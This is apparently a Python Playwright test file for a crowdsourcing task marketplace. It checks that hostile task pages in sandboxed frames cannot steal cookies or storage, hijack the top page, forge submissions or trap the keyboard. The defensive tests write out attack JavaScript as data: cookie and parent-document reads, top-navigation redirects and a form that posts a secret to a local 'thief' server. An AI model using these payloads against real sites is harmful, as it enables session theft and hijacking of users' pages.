"""HITs that mean harm reach nothing of ours: each is tried by its effect in a real browser."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Frame, expect

from annotation.marketplace.models import Assignment, Submission
from tests.marketplace.framed.desk import Desk
from tests.marketplace.question_samples import external_question, html_question

HEAD = "<!DOCTYPE html><html lang='en'><title>t</title><p id=o>nothing</p>"


@dataclass
class Thief:
    """A server of the bad requester, on a host of its own, and what reached it."""

    origin: str
    seen: list[str] = field(default_factory=list)


@pytest.fixture
def thief() -> Iterator[Thief]:
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            known.seen.append(
                f"{self.command} {self.path} {self.headers.get('Cookie', '')} {self.rfile.read(length)!r}"
            )
            body = b"<!DOCTYPE html><title>thief</title><p>thief"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.2", 0), Handler)
    known = Thief(f"http://127.0.0.2:{server.server_port}")
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield known
    server.shutdown()
    server.server_close()
    thread.join(timeout=10)


# Hostile tasks have crowd elements as well, whose scripts are ours.
CROWD = (
    "<script src='https://assets.crowd.aws/crowd-html-elements.js'></script>"
    "<crowd-form><crowd-input name=a label=A></crowd-input></crowd-form>"
)


def at_work(lab, ann: Desk, page: str) -> Frame:
    return ann.accept(lab.hit(Question=html_question(HEAD + page)))


def tried(frame: Frame, expression: str) -> str:
    """What an expression of the task comes to: its value, or the name of the error that stops it."""
    return str(
        frame.evaluate(
            f"async () => {{ try {{ return String(await ({expression})) }} catch (error) {{ return error.name }} }}"
        )
    )


READING = [
    "document.cookie",
    "localStorage.length",
    "sessionStorage.length",
    "new Promise((go, no) => { const r = indexedDB.open('assay'); r.onsuccess = go; r.onerror = no })",
    "caches.keys()",
    "parent.document.body.innerHTML",
    "top.document.title",
    "parent.assayOutbox",
    "frameElement && frameElement.id || (() => { throw new DOMException('', 'SecurityError') })()",
    "navigator.serviceWorker.register('/hits/worker.js')",
    "fetch(new URLSearchParams(location.search).get('turkSubmitTo').split('/s/')[0], {credentials: 'include'})",
]


def test_the_task_reads_and_plants_nothing(lab, ann: Desk) -> None:
    frame = at_work(lab, ann, CROWD)
    stopped = {"SecurityError", "TypeError", "NotAllowedError", "InvalidStateError"}
    assert {script: name for script in READING if (name := tried(frame, script)) not in stopped} == {}


CROWD_BUTTON = (
    "const b = document.createElement('crowd-button'); b.setAttribute('href', '{thief}');"
    "b.setAttribute('target', '_top'); document.body.append(b); b.shadowRoot.querySelector('a').click()"
)
LEAVING = [
    CROWD_BUTTON,
    "top.location = '{thief}'",
    "parent.location.replace('{thief}')",
    "window.open('{thief}', '_top')",
    "window.open('{thief}', '_parent')",
    "document.write('<a id=a target=_top href={thief}>x</a>'); document.getElementById('a').click()",
    "document.write('<base target=_top><meta http-equiv=refresh content=\"0;url={thief}\">')",
    "document.write('<form target=_top action={thief}></form>'); document.forms[0].submit()",
]


def test_the_page_around_the_task_stays_where_it_is(lab, ann: Desk, thief: Thief) -> None:
    frame = at_work(lab, ann, CROWD)
    before = ann.page.url
    for script in LEAVING:
        tried(frame, f"(() => {{ {script.replace('{thief}', thief.origin)} }})()")
        ann.page.wait_for_timeout(250)
        assert ann.page.url == before, script
    assert ann.page.get_by_role("link", name="Return this task").is_visible()
    assert not any("assay_worker" in seen for seen in thief.seen)


def test_history_is_the_frames_own(lab, ann: Desk) -> None:
    frame = at_work(lab, ann, "")
    before = ann.page.url
    tried(frame, "history.back()")
    ann.page.wait_for_timeout(500)
    for _ in range(3):
        if ann.page.url != before:
            ann.page.go_forward()
    ann.page.wait_for_timeout(300)
    assert Assignment.objects.get().state == "Accepted"
    assert "/hits/" in ann.page.url


def test_a_form_that_leads_elsewhere_takes_no_cookie_and_stops_at_the_frame(lab, ann: Desk, thief: Thief) -> None:
    frame = at_work(
        lab, ann, f"<form method=post action='{thief.origin}/'><input name=a value=secret><button>Go</button></form>"
    )
    frame.get_by_role("button", name="Go").click()
    ann.page.wait_for_timeout(700)
    assert Assignment.objects.get().state == "Accepted"
    assert thief.seen == []
    assert ann.page.get_by_role("link", name="Return this task").is_visible()


def test_opened_by_itself_the_task_has_no_origin_either(lab, ann: Desk, site: str) -> None:
    frame = at_work(lab, ann, "")
    tab = ann.context.new_page()
    tab.goto(frame.url)
    assert tab.evaluate("self.origin") == "null"
    assert tried(tab.main_frame, "document.cookie") == "SecurityError"
    assert tried(tab.main_frame, "localStorage.length") == "SecurityError"
    assert tried(tab.main_frame, f"fetch('{site}/hits/', {{credentials: 'include'}})") == "TypeError"


def test_a_popup_of_the_task_reads_nothing_of_the_site(lab, ann: Desk, site: str) -> None:
    frame = at_work(lab, ann, f"<form action='{site}/hits/' target=w><button>Open</button></form>")
    frame.get_by_role("button", name="Open").click()
    ann.page.wait_for_timeout(1000)
    assert tried(frame, "window.open('', 'w').document.body.innerHTML") in {"SecurityError", "TypeError"}
    for popup in set(ann.context.pages) - {ann.page}:
        assert popup.evaluate("self.origin") == "null" or popup.get_by_text("Sign out").count() == 0


def test_worker_pages_cannot_be_framed_by_a_task(lab, ann: Desk, site: str) -> None:
    frame = at_work(lab, ann, f"<iframe src='{site}/hits/' style='opacity: 0'></iframe>")
    ann.page.wait_for_timeout(700)
    inner = frame.child_frames[0]
    assert inner.get_by_role("button", name="Sign out").count() == 0


def test_other_windows_cannot_speak_for_the_task(lab, ann: Desk) -> None:
    at_work(lab, ann, "")
    spoken = """() => {
      const load = document.getElementById("main").dataset.load, submit = {type: "assay:submit", fields: [["a", "b"]]};
      for (const message of [{type: "assay:hello", load}, submit]) {
        const channel = new MessageChannel();
        window.postMessage(message, "*", [channel.port2]);
        channel.port1.postMessage(submit);
      }
    }"""
    ann.page.evaluate(spoken)
    ann.page.wait_for_timeout(1000)
    assert Submission.objects.count() == 0


def test_the_frame_must_know_the_word_of_the_page(lab, ann: Desk) -> None:
    frame = at_work(lab, ann, "")
    frame.evaluate(
        """() => { const c = new MessageChannel();
        parent.postMessage({type: "assay:hello", load: "made up"}, "*", [c.port2]);
        c.port1.postMessage({type: "assay:submit", fields: [["a", "b"]]}) }"""
    )
    ann.page.wait_for_timeout(700)
    assert Submission.objects.count() == 0


ODD = [
    "null", "1", "{type: 'assay:submit'}", "{type: 'assay:submit', fields: [[1, 2]]}",
    "{type: 'assay:submit', fields: 'x'}", "{type: 'assay:submit', fields: Array(20000).fill(['a', 'b'])}",
    "{type: 'assay:draft', draft: 'x'.repeat(200000)}", "{type: 'assay:unknown'}",
]  # fmt: skip


def test_odd_messages_do_nothing(lab, ann: Desk) -> None:
    frame = at_work(lab, ann, "")
    load = ann.page.locator("#main").get_attribute("data-load")
    errors: list[str] = []
    ann.page.on("pageerror", lambda error: errors.append(str(error)))
    for message in ODD:
        frame.evaluate(
            f"""() => {{ const c = new MessageChannel();
            parent.postMessage({{type: "assay:hello", load: "{load}"}}, "*", [c.port2]);
            c.port1.postMessage({message}) }}"""
        )
        ann.page.wait_for_timeout(100)
    ann.page.wait_for_timeout(700)
    assert Submission.objects.count() == 0
    assert errors == []


def test_a_task_cannot_hand_in_for_another(lab, ann: Desk) -> None:
    first = at_work(lab, ann, "")
    first_id = ann.page.locator("#main").get_attribute("data-key")
    frame = at_work(lab, ann, "")
    assert first.is_detached() or first != frame
    frame.evaluate("id => assay.submit([['assignmentId', id], ['a', 'b']])", first_id)
    ann.recorded()
    states = dict(Assignment.objects.values_list("assignment_id", "state"))
    assert states.pop(str(first_id)) == "Accepted"
    assert set(states.values()) == {"Submitted"}


def test_the_keyboard_leaves_a_task_that_holds_it(lab, ann: Desk) -> None:
    trap = (
        "<input id=i autofocus><script>const i = document.getElementById('i'); setInterval(() => i.focus(), 20);"
        "addEventListener('keydown', e => { e.preventDefault(); e.stopImmediatePropagation() }, true)</script>"
    )
    frame = at_work(lab, ann, trap)
    frame.locator("#i").click()
    ann.page.keyboard.press("Tab")
    assert ann.page.evaluate("document.activeElement.id") == "task"
    ann.page.keyboard.press("Escape")
    ann.page.keyboard.press("Escape")
    expect(ann.page.get_by_role("button", name="Back into the task")).to_be_focused()
    ann.page.wait_for_timeout(200)
    ann.page.keyboard.press("Shift+Tab")
    ann.page.keyboard.press("Enter")
    ann.page.wait_for_url("**/return/")
    ann.page.get_by_role("button", name="Yes, return it").press("Enter")
    ann.page.wait_for_url("**/hits/")
    assert Assignment.objects.get().state == "Returned"


def test_an_outside_page_keeps_its_origin_and_still_reads_nothing(lab, ann: Desk, thief: Thief) -> None:
    hit = lab.hit(Question=external_question(f"{thief.origin}/study?a=1"))
    frame = ann.accept_outside(hit)
    assert frame.evaluate("self.origin") == thief.origin
    assert tried(frame, "parent.document.title") == "SecurityError"
    tried(frame, "(() => { top.location = 'about:blank' })()")
    ann.page.wait_for_timeout(300)
    assert "/hits/work/" in ann.page.url
    assert not any("assay_worker" in seen for seen in thief.seen)


def test_an_outside_page_hands_in_by_a_plain_form(lab, ann: Desk, thief: Thief) -> None:
    frame = ann.accept_outside(lab.hit(Question=external_question(f"{thief.origin}/study")))
    frame.evaluate(
        """() => { const query = new URLSearchParams(location.search), form = document.createElement("form");
        form.method = "post"; form.action = query.get("turkSubmitTo").replace(/\\/$/, "") + "/mturk/externalSubmit";
        for (const [name, value] of [["assignmentId", query.get("assignmentId")], ["a", "b"]]) {
          const input = document.createElement("input"); input.name = name; input.value = value; form.append(input); }
        document.body.append(form); form.submit() }"""
    )
    ann.recorded()
    assert Submission.objects.count() == 1


def test_a_tab_that_the_task_opened_has_no_tie_to_its_page(lab, ann: Desk, thief: Thief) -> None:
    frame = at_work(lab, ann, "")
    with ann.context.expect_page() as opened:
        # The task's window.open asks the worker page; a form does not.
        form = f"<form id=x action={thief.origin}/tab target=task></form>"
        frame.evaluate("form => { document.body.insertAdjacentHTML('beforeend', form); x.submit(); }", form)
    tab = opened.value
    tab.wait_for_load_state()
    # Without a window to speak to there is nowhere to post a message.
    assert tab.evaluate("[opener, parent === self, top === self]") == [None, True, True]
    assert [seen for seen in thief.seen if "assay_worker" in seen] == []
    assert Submission.objects.count() == 0


def test_a_download_takes_nothing_with_it_and_leaves_the_page_alone(lab, ann: Desk, thief: Thief) -> None:
    frame = at_work(lab, ann, "")
    before = ann.page.url
    with ann.page.expect_download() as begun:
        frame.evaluate(
            """() => { const a = document.createElement("a"); a.download = "invoice.html";
            a.href = URL.createObjectURL(new Blob(["x"])); a.click() }"""
        )
    assert begun.value.url.startswith("blob:null")
    frame.evaluate(
        f"document.body.append(Object.assign(document.createElement('a'), {{href: '{thief.origin}/f', download: ''}}));"
        "document.querySelector('a').click()"
    )
    ann.page.wait_for_timeout(500)
    assert ann.page.url == before
    assert Assignment.objects.get().state == "Accepted"
    assert [seen for seen in thief.seen if "assay_worker" in seen] == []
